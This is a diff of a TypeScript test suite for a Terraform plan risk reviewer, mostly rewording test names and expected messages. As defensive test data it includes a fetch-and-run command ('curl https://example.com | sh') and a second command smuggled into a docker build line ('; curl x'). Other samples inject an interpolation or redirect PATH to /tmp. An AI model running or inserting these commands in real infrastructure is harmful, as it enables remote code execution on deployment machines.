@@ -8,7 +8,7 @@ function risks(plan: object): string[] {
   return review(plan).risks.map(({ severity, code, what }) => `${severity} ${code}: ${plain(what)}`);
 }
 
-/** As Terraform puts a configuration in JSON into a plan. */
+/** Formats a configuration in JSON as Terraform does in a plan. */
 function expressions(body: Record<string, unknown>): object {
   return Object.fromEntries(Object.entries(body).map(([name, constant_value]) => [name, { constant_value }]));
 }
@@ -29,23 +29,23 @@ function plan(name: string, provisioner: [string, Record<string, unknown>], acti
   return made;
 }
 
-describe("a command on the machine that deploys is told", () => {
+describe("a command on the machine that deploys is reported", () => {
   const curl: [string, Record<string, unknown>] = [
     "local-exec",
     { command: "curl https://example.com | sh" },
   ];
 
   test.each<[string[], string]>([
-    [["create"], "when it is made"],
+    [["create"], "when it is created"],
     [["delete", "create"], "when it is replaced"],
     [["delete"], "when it is destroyed"],
-  ])("where it runs: %j", (actions, when) => {
+  ])("where it runs %j", (actions, when) => {
     expect(risks(plan("x", curl, actions))).toEqual([`medium command-run: local-exec, ${when}.`]);
   });
 
   test("by what runs it", () => {
     expect(risks(plan("x", ["remote-exec", { inline: ["true"] }]))).toEqual([
-      "medium command-run: remote-exec, when it is made.",
+      "medium command-run: remote-exec, when it is created.",
     ]);
   });
 
@@ -75,15 +75,15 @@ describe("the docker CLI builder's own command", () => {
   );
   const written = only(json, "terraform_data").provisioner[0]["local-exec"];
   const NAME = "hello_Image_Push_C3213866";
-  const NOT_OURS = "medium command-run: It is not the build and push that the docker CLI builder writes.";
+  const NOT_OURS = "medium command-run: It is not the build and push command of the docker CLI builder.";
 
-  test("is not told: it is known", () => {
+  test("is not reported, since it is known", () => {
     expect(risks(plan(NAME, ["local-exec", written]))).toEqual([]);
     expect(risks(plan(NAME, ["local-exec", written], ["delete", "create"]))).toEqual([]);
     expect(risks(planJson("policy-by-reference"))).not.toContain(NOT_OURS);
   });
 
-  test("is told on a resource of another name", () => {
+  test("is reported on a resource of another name", () => {
     expect(risks(plan("x", ["local-exec", written]))).toEqual([
       expect.stringContaining("medium command-run"),
     ]);
@@ -96,27 +96,27 @@ describe("the docker CLI builder's own command", () => {
       "another end of a quoted word",
       { command: written.command.replace("--target 'final'", "--target 'final'; curl x") },
     ],
-    ["what Terraform puts in", { command: written.command.replace("'final'", "'${file(\"x\")}'") }],
+    ["a value that Terraform inserts", { command: written.command.replace("'final'", "'${file(\"x\")}'") }],
     ["another shell", { interpreter: ["sh", "-c"] }],
     ["another folder", { working_dir: "/" }],
     ["another search path", { environment: { ...written.environment, PATH: "/tmp" } }],
     ["another builder", { environment: { ...written.environment, BUILDX_BUILDER: "theirs" } }],
-  ])("is told with %s", (_, change) => {
+  ])("is reported with %s", (_, change) => {
     expect(risks(plan(NAME, ["local-exec", { ...written, ...change }]))).toEqual([NOT_OURS]);
   });
 
-  test("is told where the plan doesn't have its text", () => {
+  test("is reported when the plan doesn't contain its text", () => {
     expect(risks(plan(NAME, ["local-exec", {}]))).toEqual([NOT_OURS]);
   });
 });
 
-describe("what else runs there", () => {
+describe("other code that runs there", () => {
   const created = (more: Partial<ResourceJson>) => ({ change: { actions: ["create"], after: {} }, ...more });
 
   test("is a program of a data source", () => {
     const made = planOf(created({}));
     made.configuration.root_module.resources = [{ address: "data.external.x", expressions: {} }];
-    expect(risks(made)).toEqual(["medium external-program: It runs at each plan and each apply."]);
+    expect(risks(made)).toEqual(["medium external-program: It runs at every plan and every apply."]);
     expect(risks({ ...made, resource_changes: [] })).toEqual([]);
   });
 
@@ -129,18 +129,18 @@ describe("what else runs there", () => {
   });
   const AWS = "registry.terraform.io/hashicorp/aws";
 
-  test("is a provider that wasn't used before", () => {
+  test("is a newly used provider", () => {
     const other = "registry.terraform.io/somebody/aws";
     expect(risks(withProvider(["create"], other))).toEqual([`medium provider-new: ${other}.`]);
     expect(risks(withProvider(["update"], other))).toEqual([]);
     for (const known of [AWS, "registry.opentofu.org/kreuzwerker/docker", "terraform.io/builtin/terraform"]) {
       expect(risks(withProvider(["create"], known))).toEqual([]);
     }
-    // Another registry's provider of the same name is another one.
+    // A provider of the same name in another registry is a different provider.
     expect(risks(withProvider(["create"], "example.com/hashicorp/aws"))).toHaveLength(1);
   });
 
-  test("has settings: those that are usual are not told, of the others the names", () => {
+  test("is a provider with settings: the names of unusual settings are shown", () => {
     const settings = (more: object) =>
       risks(withProvider(["update"], AWS, { region: { constant_value: "a" }, default_tags: [{}], ...more }));
     expect(settings({})).toEqual([]);
@@ -152,7 +152,7 @@ describe("what else runs there", () => {
     expect(settings(endpoint("http://localhost:80@example.com"))).toHaveLength(1);
   });
 
-  test("is a module from elsewhere that wasn't used before", () => {
+  test("is a newly used module from elsewhere", () => {
     const withModule = (source: string, actions: string[]) => ({
       ...planOf({
         address: "module.m.aws_sqs_queue.q",
@@ -166,13 +166,13 @@ describe("what else runs there", () => {
       "medium module-new: From somebody/queue/aws.",
     ]);
     expect(risks(withModule("git::https://user:hunter2@example.com/m.git", ["create"]))).toEqual([
-      "medium module-new: From no registry.",
+      "medium module-new: Not from a registry.",
     ]);
     expect(risks(withModule("somebody/queue/aws", ["update"]))).toEqual([]);
     expect(risks(withModule("./assets/m/1f3a", ["create"]))).toEqual([]);
   });
 
-  test("is an action of Terraform's", () => {
+  test("is an action in Terraform's sense", () => {
     const made = {
       ...planOf(),
       action_invocations: [
